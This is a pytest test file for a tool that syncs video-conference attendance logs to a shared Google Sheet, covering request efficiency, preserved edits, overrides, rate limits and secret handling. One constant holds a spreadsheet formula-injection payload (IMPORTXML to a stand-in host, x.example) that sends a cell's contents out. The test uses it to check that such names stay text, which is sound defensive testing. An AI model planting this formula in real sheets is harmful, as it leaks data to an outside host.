"""The shared sheet through the real gspread and google-auth, against a stateful fake Sheets API."""

from __future__ import annotations

import csv

import openpyxl
from click.testing import CliRunner

from vc_sync.cli import cli

EVIL = '=IMPORTXML("http://x.example/?q="&A1,"//a")'


def sync(programme, *extra: str, code: int = 0):
    result = CliRunner().invoke(cli, ["sync", "--config", str(programme.config), "--session", "S1", *extra])
    assert result.exit_code == code, result.output
    return result


def test_first_sync_builds_the_tabs_in_a_constant_number_of_requests(programme, sheets):
    sync(programme)
    assert [t.title for t in sorted(sheets.tabs, key=lambda t: t.index)] == [
        "Summary",
        "About",
        "Session S1",
        "Review",
        "Choices",
    ]
    assert [t.title for t in sheets.tabs if t.hidden] == ["Choices"]
    # read; take the lease and read it back; read again under it; tabs; values; release the lease
    assert sheets.calls() == {"get": 3, "batchUpdate": 3, "values.batchUpdate": 1}
    s1 = sheets.tab("Session S1")
    assert s1.value("i-R001", "Status") == "Present" and s1.value("i-R001", "Minutes") == 148
    assert s1.frozen == 1 and s1.basic_filter is not None and s1.conditional
    (check,) = s1.validations
    assert check["rule"]["condition"] == {
        "type": "ONE_OF_RANGE",
        "values": [{"userEnteredValue": "='Choices'!$A$2:$A"}],
    }
    assert all(w["valueInputOption"] == "RAW" for w in sheets.value_writes())


def test_the_sheet_and_the_workbook_hold_the_same_rows(programme, sheets):
    sync(programme)
    book = openpyxl.load_workbook(programme.xlsx)
    for title in ("Session S1", "Review", "Summary", "About", "Choices"):
        in_book = [[v for v in row] for row in book[title].iter_rows(values_only=True)]
        in_book = [[("" if v is None else v) for v in row] for row in in_book]
        in_sheet = sheets.tab(title).grid()
        assert [r + [""] * (len(in_book[0]) - len(r)) for r in in_sheet] == in_book, title


def test_a_rerun_with_nothing_changed_writes_nothing(programme, sheets):
    sync(programme)
    sheets.requests.clear()
    result = sync(programme)
    assert sheets.calls() == {"get": 1, "batchGet": 1}
    assert "Session S1: 0 added, 0 updated, 8 unchanged" in result.output


def test_a_changed_log_updates_only_what_changed(programme, sheets):
    sync(programme)
    sheets.requests.clear()
    programme.edit(
        "s1.csv",
        "Sri Wahyuni (Dinpar Bantul),,04/14/2020 09:00:00 AM,04/14/2020 09:30:00 AM",
        "Sri Wahyuni (Dinpar Bantul),,04/14/2020 09:00:00 AM,04/14/2020 11:00:00 AM",
    )
    sync(programme)
    assert sheets.calls() == {"get": 3, "batchGet": 2, "batchUpdate": 2, "values.batchUpdate": 1}
    (write,) = sheets.value_writes()
    ranges = [d["range"] for d in write["data"]]
    assert all(r.startswith(("'Session S1'!", "'Summary'!", "'About'!")) for r in ranges)
    s1 = sheets.tab("Session S1")
    assert s1.value("i-R003", "Status") == "Present" and s1.value("i-R003", "Minutes") == 120


def test_organisers_columns_notes_and_formatting_survive(programme, sheets):
    sync(programme)
    s1 = sheets.tab("Session S1")
    row = s1.row_of("i-R002")
    mine = max(c for (_r, c) in s1.cells) + 1  # an organiser's column, right of the tool's
    s1.cells[(0, mine)] = "Catatan"
    s1.cells[(row, mine)] = "datang terlambat"
    s1.notes[(row, 1)] = "cek ulang"
    s1.formats[(row, 2)] = {"backgroundColor": {"red": 1}}
    s1.cells[(40, 0)] = ""  # an organiser's own row far below, no key
    s1.cells[(40, 2)] = "Rapat koordinasi"
    programme.edit(
        "s1.csv",
        "Sri Wahyuni (Dinpar Bantul),,04/14/2020 09:00:00 AM,04/14/2020 09:30:00 AM",
        "Sri Wahyuni (Dinpar Bantul),,04/14/2020 09:00:00 AM,04/14/2020 11:00:00 AM",
    )
    programme.write(
        "s1.csv",
        (programme.root / "s1.csv").read_text()
        + "Tamu Baru,,04/14/2020 09:00:00 AM,04/14/2020 09:30:00 AM,30,Yes,\n",
    )
    sync(programme)
    assert s1.cells[(row, mine)] == "datang terlambat" and s1.cells[(0, mine)] == "Catatan"
    assert s1.notes[(row, 1)] == "cek ulang" and s1.formats[(row, 2)] == {"backgroundColor": {"red": 1}}
    assert s1.cells[(40, 2)] == "Rapat koordinasi"
    (new,) = [r for (r, c), v in s1.cells.items() if c == s1.column("Display names") and v == "Tamu Baru"]
    assert new == 41  # below the organiser's row, not over it


def test_a_dropdown_choice_is_read_back_and_applied(programme, sheets):
    sync(programme)
    review = sheets.tab("Review")
    keys = review.row_keys()[:2]
    first = keys[0]
    review.cells[(review.row_of(first), review.column("Assign"))] = (
        "Sri Wahyuni · Dinas Pariwisata Kabupaten Bantul"
    )
    review.cells[(review.row_of(keys[1]), review.column("Assign"))] = "ignore"
    result = sync(programme)
    assert "warning" not in result.output
    with open(programme.root / "overrides.csv", encoding="utf-8") as fh:
        saved = sorted((r["participant"], r["assign"], r["session"]) for r in csv.DictReader(fh))
    assert saved == sorted([(first.split("/")[1], "R003", "S1"), (keys[1].split("/")[1], "ignore", "S1")])
    s1 = sheets.tab("Session S1")
    rows = {k: s1.row_of(k) for k in s1.row_keys()}
    statuses = {k: s1.cells.get((r, s1.column("Status"))) for k, r in rows.items()}
    methods = {k: s1.cells.get((r, s1.column("Method"))) for k, r in rows.items()}
    assert "Ignored" in statuses.values()
    assert methods.get("i-R003") == "override"


def test_a_pick_that_names_nothing_is_a_warning_not_a_failure(programme, sheets):
    sync(programme)
    review = sheets.tab("Review")
    review.cells[(1, review.column("Assign"))] = "someone"
    result = sync(programme)
    assert (
        "warning: Review: row 2 (Galaxy A51): 'someone' names no invitee, agency or ignore; skipped"
        in result.output
    )


def test_formula_like_names_stay_text(programme, sheets):
    programme.edit(
        "s1.csv",
        "Galaxy A51,,04/14/2020 09:12:00 AM",
        '"' + EVIL.replace('"', '""') + '",,04/14/2020 09:12:00 AM',
    )
    sync(programme)
    for title in ("Session S1", "Review"):
        tab = sheets.tab(title)
        spots = [rc for rc, v in tab.cells.items() if v == EVIL]
        assert spots and not (set(spots) & tab.formulas)


def test_a_429_storm_is_survived_within_bounds(programme, sheets):
    storm = {
        "error": {
            "code": 429,
            "status": "RESOURCE_EXHAUSTED",
            "message": "Quota exceeded",
            "details": [{"reason": "RATE_LIMIT_EXCEEDED"}],
        }
    }
    sheets.fail("values:batchUpdate", 429, storm, {"Retry-After": "0"}, times=3, method="POST")
    output = sync(programme).output
    assert sheets.calls()["values.batchUpdate"] == 4
    assert output.count("Google Sheets rate limit: waiting 0 s") == 3  # the waits are said
    sheets.fail("spreadsheets/", 429, storm, {"Retry-After": "0"}, times=50)
    result = sync(programme, code=1)
    assert (
        result.output.strip()
        .splitlines()[-1]
        .startswith("error: sheets: read metadata: HTTP 429 RESOURCE_EXHAUSTED")
    )
    assert "gave up after 4 attempts" in result.output


def test_request_count_does_not_grow_with_rows(programme, sheets):
    def log(n: int) -> str:
        head = "Name (Original Name),User Email,Join Time,Leave Time,Duration (Minutes),Guest\n"
        return head + "".join(
            f"Tamu {i:05d} Wibowo,,04/14/2020 09:00:00 AM,04/14/2020 10:00:00 AM,60,Yes\n" for i in range(n)
        )

    counts = []
    for n in (10, 5000):
        sheets.tabs.clear()
        sheets.requests.clear()
        programme.write("s1.csv", log(n))
        sync(programme)
        counts.append(sheets.calls())
        assert len(sheets.tab("Review").grid()) == n + 1
    assert counts[0] == counts[1] == {"get": 3, "batchUpdate": 3, "values.batchUpdate": 1}


def test_a_vanished_person_is_kept_unless_forced(programme, sheets):
    sync(programme)
    text = (programme.root / "s1.csv").read_text()
    programme.write(
        "s1.csv", "\n".join(ln for ln in text.splitlines() if not ln.startswith("Ibu Damayani")) + "\n"
    )
    result = sync(programme)
    assert "1 no longer in the log, kept" in result.output
    s1 = sheets.tab("Session S1")
    assert s1.value("i-R006", "Status") == "Organiser"
    result = sync(programme, "--force")
    assert "1 removed" in result.output
    assert "i-R006" not in [v for (r, c), v in s1.cells.items() if c == 0]


def test_dry_run_reads_but_writes_nothing(programme, sheets):
    result = sync(programme, "--dry-run")
    assert "would change Session S1: 8 added" in result.output
    assert sheets.calls() == {"get": 1} and not sheets.tabs
    assert not programme.xlsx.exists()


def test_an_empty_report_does_not_wipe_a_tab(programme, sheets):
    sync(programme)
    programme.write(
        "s1.csv", "Name (Original Name),User Email,Join Time,Leave Time,Duration (Minutes),Guest\n"
    )
    assert "no connection in the export" in sync(programme, code=2).output  # bad input: nothing written
    s1 = sheets.tab("Session S1")
    assert s1.value("i-R001", "Status") == "Present"


def test_secrets_stay_out_of_requests_and_output(programme, sheets):
    result = CliRunner().invoke(
        cli, ["--verbose", "sync", "--config", str(programme.config), "--session", "S1"]
    )
    assert result.exit_code == 0, result.output
    assert "gsecret-77" not in result.output and "refresh-token-xyz" not in result.output
    assert all(b"gsecret-77" not in r.body for r in sheets.requests if r.path != "/token")


def test_anchors_cost_no_extra_request(programme, sheets):
    """Anchors ride in the one metadata read and the one structural batch."""
    sync(programme)
    assert sheets.calls() == {"get": 3, "batchUpdate": 3, "values.batchUpdate": 1}
    kinds = [next(iter(q)) for q in sheets.structure_requests()]
    # the tab and header of 5 tabs; the columns of Summary, About, Session S1, Review, Choices
    # and the programme's mark, the lease and the mark of the write (given with the lease back)
    assert kinds.count("createDeveloperMetadata") == 5 * 2 + 15 + 3 + 16 + 9 + 2 + 2 + 1
    get = next(r for r in sheets.requests if r.method == "GET" and r.path.endswith(sheets.id))
    assert "developerMetadata" in get.query["fields"] and "merges" in get.query["fields"]
    for edit, expected in (
        (lambda: None, {"get": 1, "batchGet": 1}),  # nothing changed
        (
            lambda: programme.edit(
                "s1.csv",
                "Sri Wahyuni (Dinpar Bantul),,04/14/2020 09:00:00 AM,04/14/2020 09:30:00 AM",
                "Sri Wahyuni (Dinpar Bantul),,04/14/2020 09:00:00 AM,04/14/2020 11:00:00 AM",
            ),
            {"get": 3, "batchGet": 2, "batchUpdate": 2, "values.batchUpdate": 1},  # values only
        ),
        (
            lambda: sheets.edit(
                {
                    "deleteDimension": {
                        "range": {
                            "sheetId": sheets.tab("Session S1").sheet_id,
                            "dimension": "ROWS",
                            "startIndex": 0,
                            "endIndex": 1,
                        }
                    }
                }
            ),
            {"get": 3, "batchGet": 2, "batchUpdate": 3, "values.batchUpdate": 1},  # header restored
        ),
    ):
        edit()
        sheets.requests.clear()
        sync(programme)
        assert sheets.calls() == expected


def test_a_sheet_that_is_not_there_is_said_like_every_refusal(programme, sheets):
    """The same words as a provider's refusals (vc_sync.http.Refusals), with the sheet's hint;
    nothing is written, exit 1."""
    sheets.id = "1SomeoneElsesSheetIdThatIsNotOurs"
    result = sync(programme, code=1)
    assert (
        "sheets: " in result.output
        and ": not found (HTTP 404: Requested entity was not found.)" in result.output
    )
    assert (
        "check the address in output.sheet, and share the sheet with the Google account that "
        "signed in with vc-sync auth google as Editor" in result.output
    )
    assert "Traceback" not in result.output and sheets.calls().get("values.batchUpdate", 0) == 0


def test_a_sheet_not_shared_with_a_service_account_names_its_address(programme, sheets):
    """The address to type into Share is the service account's, so the refusal gives it (review
    27d: the sync said "the credentials' account", leaving the secretary to dig it out of the
    key file); the key itself is never shown."""
    import json

    from tests.fakes.google import SERVICE_ACCOUNT, google_service_account

    token_uri = json.loads((programme.root / "google.json").read_text())["token_uri"]
    google_service_account(programme, token_uri)
    programme.edit("config.toml", 'credentials = "google.json"', 'credentials = "sa.json"')
    sheets.id = "1SomeoneElsesSheetIdThatIsNotOurs"
    result = sync(programme, code=1)
    assert f"share the sheet with {SERVICE_ACCOUNT} as Editor" in result.output
    assert "PRIVATE KEY" not in result.output and "Traceback" not in result.output
